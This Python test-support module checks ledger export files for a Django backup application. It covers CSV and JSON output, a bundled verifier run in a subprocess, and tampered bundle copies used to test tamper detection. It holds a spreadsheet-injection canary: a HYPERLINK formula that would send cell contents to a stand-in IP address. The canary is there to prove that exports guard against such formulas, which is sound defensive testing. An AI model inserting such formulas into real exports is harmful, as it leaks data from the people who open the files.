"""Exports in tests: a directory of their own, a log with something in it, and the auditor who asks."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from django.db import transaction

from backups.domain.export import ExportFormat, ExportScope
from backups.domain.ledger import Target
from backups.domain.people import Actor
from backups.ledger.csv_file import COLUMNS, unguarded
from backups.models import LedgerEvent, LedgerExport
from backups.selectors.people import actor_of
from backups.services.export.ask import ask_for_export
from backups.services.export.files import path_of
from backups.services.export.write import write_due_exports
from backups.services.ledger import record_event
from tests.factories import People
from tests.support.sealing import BOB, REQUEST, SealedPortal, comment

EVIDENCE = ExportScope()
#: Canaries: what a spreadsheet would run, were it not guarded.
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'


@pytest.fixture
def exports_in(settings: Any, tmp_path: Path) -> Path:
    """Where the files go."""
    directory = tmp_path / "exports"
    settings.LEDGER_EXPORT_DIR = directory
    return directory


def dana_of(people: People) -> Actor:
    return actor_of(people.dana.user)


def a_log(portal: SealedPortal) -> list[LedgerEvent]:
    """Comments, one of the sandbox, one about another request, one that carries a formula; all sealed."""
    events = [comment("Which table was it?"), comment(), comment()]
    with transaction.atomic():
        events.append(record_event(type="request.commented", actor=BOB, target=REQUEST, sandbox=True))
        other = Target(kind="restore_request", id="R-0008")
        events.append(record_event(type="request.opened", actor=BOB, target=other))
        branch = {"branch_name": FORMULA, "environment": "production"}
        events.append(record_event(type="request.started", actor=BOB, target=REQUEST, details=branch))
    portal.seal()
    return events


def exported(people: People, format: ExportFormat, scope: ExportScope = EVIDENCE) -> LedgerExport:
    """As the worker leaves it."""
    export = ask_for_export(actor=dana_of(people), format=format, scope=scope)
    write_due_exports()
    export.refresh_from_db()
    return export


def an_export(people: People, format: ExportFormat = ExportFormat.CSV) -> LedgerExport:
    """One that waits for a worker."""
    return ask_for_export(actor=dana_of(people), format=format, scope=EVIDENCE)


def csv_rows(path: Path) -> list[dict[str, str]]:
    """As they were before they were guarded."""
    reader = csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""), strict=True)
    assert tuple(next(reader)) == COLUMNS
    return [dict(zip(COLUMNS, map(unguarded, row), strict=True)) for row in reader]


def json_lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_bytes().split(b"\n")[:-1]]


def verifier_says(bundle: Path, keys: Path, *anchors: Path) -> tuple[int, str]:
    """The file that lies in the bundle, run by a bare Python as an auditor would."""
    program = bundle.with_suffix(".verify.py")
    with zipfile.ZipFile(bundle) as archive:
        program.write_bytes(archive.read("carecircle_verify.py"))
    command = [sys.executable, "-I", "-S", str(program), str(bundle), "--vkeys", str(keys)]
    done = subprocess.run(
        [*command, *(part for each in anchors for part in ("--anchors", str(each)))],
        capture_output=True, text=True, check=False,
    )  # fmt: skip
    return done.returncode, done.stdout


def altered(bundle: Path, name: str, before: bytes, after: bytes) -> Path:
    """A copy of the bundle with one file changed, and the manifest made to fit."""
    copy = bundle.with_name("altered.zip")
    with zipfile.ZipFile(bundle) as old, zipfile.ZipFile(copy, "w") as new:
        files = {each: old.read(each) for each in old.namelist()}
        assert before in files[name]
        files[name] = files[name].replace(before, after, 1)
        manifest = json.loads(files["manifest.json"])
        manifest["sha256"][name] = hashlib.sha256(files[name]).hexdigest()
        files["manifest.json"] = json.dumps(manifest).encode()
        for each, content in files.items():
            new.writestr(each, content)
    return copy


def file_of(export: LedgerExport) -> Path:
    return path_of(export)
